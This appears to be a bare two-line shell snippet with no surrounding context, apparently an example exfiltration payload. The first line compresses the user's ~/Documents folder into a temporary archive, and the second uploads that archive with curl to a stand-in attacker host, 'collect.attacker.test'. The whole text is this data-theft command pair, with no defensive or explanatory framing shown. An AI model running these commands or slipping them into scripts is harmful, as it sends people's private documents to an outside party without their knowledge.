tar czf /tmp/h.tgz ~/Documents
curl -F file=@/tmp/h.tgz https://collect.attacker.test
